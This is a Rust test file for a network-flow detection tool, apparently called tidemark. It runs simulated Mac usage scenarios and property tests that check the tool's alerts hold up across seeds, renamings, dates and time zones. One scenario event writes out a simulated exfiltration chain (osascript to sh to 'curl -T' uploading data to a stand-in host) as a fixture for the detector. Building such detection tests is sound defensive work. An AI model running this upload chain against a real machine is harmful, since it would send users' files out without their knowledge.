//! Life on a Mac: every scenario of `tests/life` holds under three seeds, with default settings.
//!
//! Three seeds are what a scenario promises in every run of the tests; `TIDEMARK_LIFE_SEEDS=20 cargo test --test life every` asks for more, and so
//! does `tidemark test --seeds 20 tests/life`.

#![allow(
    clippy::pedantic,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    clippy::print_stderr,
    reason = "a test that cannot go on has failed"
)]

use std::path::PathBuf;

use tidemark::scenario::{Judgement, suite};

fn folder() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/life")
}

#[test]
fn every_scenario_holds_under_its_seeds() {
    let seeds = std::env::var("TIDEMARK_LIFE_SEEDS").map_or(3, |seeds| seeds.parse().unwrap());
    let files = suite::files(&[folder()]).unwrap();
    let scenarios: Vec<_> = files.iter().map(|file| suite::load(file).unwrap()).collect();
    let reports = suite::run(&scenarios, seeds);
    let mut failed = Vec::new();
    for (file, report) in files.iter().zip(&reports) {
        if !report.result.passes() {
            failed.push(format!("{}: {}", file.file_name().unwrap().display(), report.result.label()));
            for (seed, outcome) in &report.seeds {
                for difference in &outcome.differences {
                    failed.push(format!(
                        "  seed {seed}: expected {}, seen {}",
                        difference.expected, difference.seen
                    ));
                }
            }
        }
    }
    assert!(failed.is_empty(), "\n{}", failed.join("\n"));
    let excused = reports.iter().filter(|report| report.result == Judgement::ExpectedFailure).count();
    assert!(excused <= 3, "{excused} scenarios are excused");
}

/// Laws that no scenario may break, on a Mac small enough to be played many times.
mod laws {
    use std::collections::BTreeSet;

    use proptest::prelude::*;
    use tidemark::detect::Severity;
    use tidemark::observation::{FlowState, Observation, Timestamp, ZoneOffset};
    use tidemark::scenario::{Outcome, Scenario, Seen};

    /// What differs from Mac to Mac.
    #[derive(Debug, Clone)]
    struct Small {
        seed: u64,
        megabytes: u32,
        every: u32,
        downloads: u32,
        minutes: u32,
    }

    fn small() -> impl Strategy<Value = Small> {
        (1u64..1_000, 2u32..80, 1u32..4, 1u32..6, 1u32..40).prop_map(
            |(seed, megabytes, every, downloads, minutes)| Small {
                seed,
                megabytes,
                every,
                downloads,
                minutes,
            },
        )
    }

    fn text(mac: &Small) -> String {
        let Small { megabytes, every, downloads, minutes, .. } = mac;
        format!(
            r#"
title = "A small Mac"
days = 10

[mac]
ordinary = false
zone = "UTC"
starts = "2026-03-02"

[[program]]
name = "Sync"
path = "/Applications/Sync.app/Contents/MacOS/Sync"
id = "com.example.sync"
team = "SYNC123456"

[[habit]]
run = "Sync"
every = "{every} h"
hours = "00:00-24:00"
flow = [{{ to = ["one.sync.example.com", "two.blocks.example.com"], sends = "900 kB", spread = 2.0 }}]

[[habit]]
run = "Terminal > zsh > curl -O https://downloads.example.org/x"
times = {downloads}
flow = [{{ to = "downloads.example.org", spread = 2.0 }}]

[[event]]
day = 9
at = "10:30"
run = "Terminal > zsh > osascript x.scpt > sh -c x => curl -T x https://drop.example"
flow = [{{ to = "drop.example", sends = "{megabytes} MB", over = "{minutes} min" }}]

[[event]]
day = 10
at = "12:00"
run = "Sync"
flow = [{{ to = "elsewhere.example.net", sends = "4 GB", over = "{minutes} min" }}]

[expect]
"#
        )
    }

    fn play(text: &str, seed: u64) -> Outcome {
        Scenario::parse(text).unwrap().run(seed)
    }

    fn subjects(outcome: &Outcome, least: Severity) -> BTreeSet<String> {
        outcome.alerts.iter().filter(|seen| seen.severity >= least).map(|seen| seen.subject.clone()).collect()
    }

    /// Everything but names and the absolute time.
    fn story(outcome: &Outcome) -> Vec<String> {
        let one =
            |seen: &Seen| format!("{} {} {:.9} {:?}", seen.when, seen.severity, seen.score, seen.channels);
        outcome.alerts.iter().map(one).collect()
    }

    /// Every report of a flow that goes on is preceded by one halfway to it.
    fn halved(recording: &[Observation]) -> Vec<Observation> {
        let mut told: Vec<(Timestamp, Observation)> = Vec::new();
        let mut last = std::collections::BTreeMap::new();
        let mut now = Timestamp::MIN;
        for observation in recording {
            now = observation.time().map_or(now, |time| time.max(now));
            if let Observation::Flow(flow) = observation {
                let before = last.insert(flow.flow_id.clone(), (flow.time, flow.bytes_out, flow.bytes_in));
                let (since, out, back) = before.unwrap_or((flow.time, 0, 0));
                let mut half = flow.clone();
                half.time = since.after(flow.time.since(since) / 2);
                half.bytes_out = out.midpoint(flow.bytes_out);
                half.bytes_in = back.midpoint(flow.bytes_in);
                half.state = if before.is_none() { FlowState::Open } else { FlowState::Update };
                told.push((half.time, Observation::Flow(half)));
            }
            told.push((now, observation.clone()));
        }
        told.sort_by_key(|(time, _)| *time);
        told.into_iter().map(|(_, observation)| observation).collect()
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 6, max_shrink_iters: 12, ..ProptestConfig::default() })]

        #[test]
        fn a_quiet_program_more_removes_no_loud_finding(mac in small(), quiet in 1u32..4) {
            let text = text(&mac);
            let loud = subjects(&play(&text, mac.seed), Severity::High);
            prop_assert!(!loud.is_empty());
            let more = format!(
                "{text}\n[[program]]\nname = \"Quiet\"\npath = \"/Applications/Quiet.app/Contents/MacOS/Quiet\"\nid = \"com.example.quiet\"\nteam = \"QUIET12345\"\n\
                 [[habit]]\nrun = \"Quiet\"\nevery = \"{quiet} h\"\nhours = \"00:00-24:00\"\nflow = [{{ to = \"quiet.example.com\" }}]\n"
            );
            let now = subjects(&play(&more, mac.seed), Severity::Info);
            prop_assert!(loud.is_subset(&now), "{:?} and then {:?}", loud, now);
        }

        #[test]
        fn other_names_for_paths_and_hosts_change_nothing_but_names(mac in small()) {
            let text = text(&mac);
            let renamed = text
                .replace("sync.example.com", "cloud.mirror.test")
                .replace("blocks.example.com", "store.mirror.test")
                .replace("downloads.example.org", "files.archive.test")
                .replace("drop.example", "paste.test")
                .replace("elsewhere.example.net", "away.test")
                .replace("/Applications/Sync.app/Contents/MacOS/Sync", "/Applications/Mirror.app/Contents/MacOS/Mirror")
                .replace("com.example.sync", "org.mirror.app")
                .replace("SYNC123456", "MIRROR1234");
            let (one, other) = (play(&text, mac.seed), play(&renamed, mac.seed));
            prop_assert_eq!(story(&one), story(&other));
            prop_assert!(other.alerts.iter().any(|seen| seen.subject.contains("MIRROR1234")));
        }

        #[test]
        fn more_reports_of_the_same_flows_find_the_same_subjects(mac in small()) {
            let scenario = Scenario::parse(&text(&mac)).unwrap();
            let recording = scenario.recording(mac.seed);
            let told = |outcome: &Outcome| -> BTreeSet<(String, String)> {
                outcome.alerts.iter().map(|seen| (seen.when.split(' ').nth(1).unwrap().to_owned(), seen.subject.clone())).collect()
            };
            let (one, other) = (scenario.judge(&recording), scenario.judge(&halved(&recording)));
            prop_assert!(other.observations > one.observations);
            prop_assert_eq!(told(&one), told(&other));
        }

        #[test]
        fn the_same_days_later_are_the_same(mac in small(), later in 1u32..28) {
            let text = text(&mac);
            let moved = text.replace("2026-03-02", &format!("2027-02-{later:02}"));
            prop_assert_eq!(story(&play(&text, mac.seed)), story(&play(&moved, mac.seed)));
        }

        #[test]
        fn the_same_life_in_another_zone_is_the_same(mac in small(), zone in -11i32..13) {
            let text = text(&mac);
            let moved = text.replace("\"UTC\"", &format!("\"Etc/GMT{zone:+}\""));
            prop_assert_eq!(story(&play(&text, mac.seed)), story(&play(&moved, mac.seed)));
        }

        #[test]
        fn another_zone_for_the_same_moments_moves_only_the_borders_of_days(mac in small(), hours in -11i32..13) {
            let scenario = Scenario::parse(&text(&mac)).unwrap();
            let mut recording = scenario.recording(mac.seed);
            let loud = subjects(&scenario.judge(&recording), Severity::High);
            for observation in &mut recording {
                if let Observation::Recording(header) = observation {
                    header.utc_offset_seconds = Some(ZoneOffset(hours * 3_600));
                }
            }
            let now = subjects(&scenario.judge(&recording), Severity::Info);
            prop_assert!(loud.is_subset(&now), "{:?} and then {:?}", loud, now);
        }
    }
}
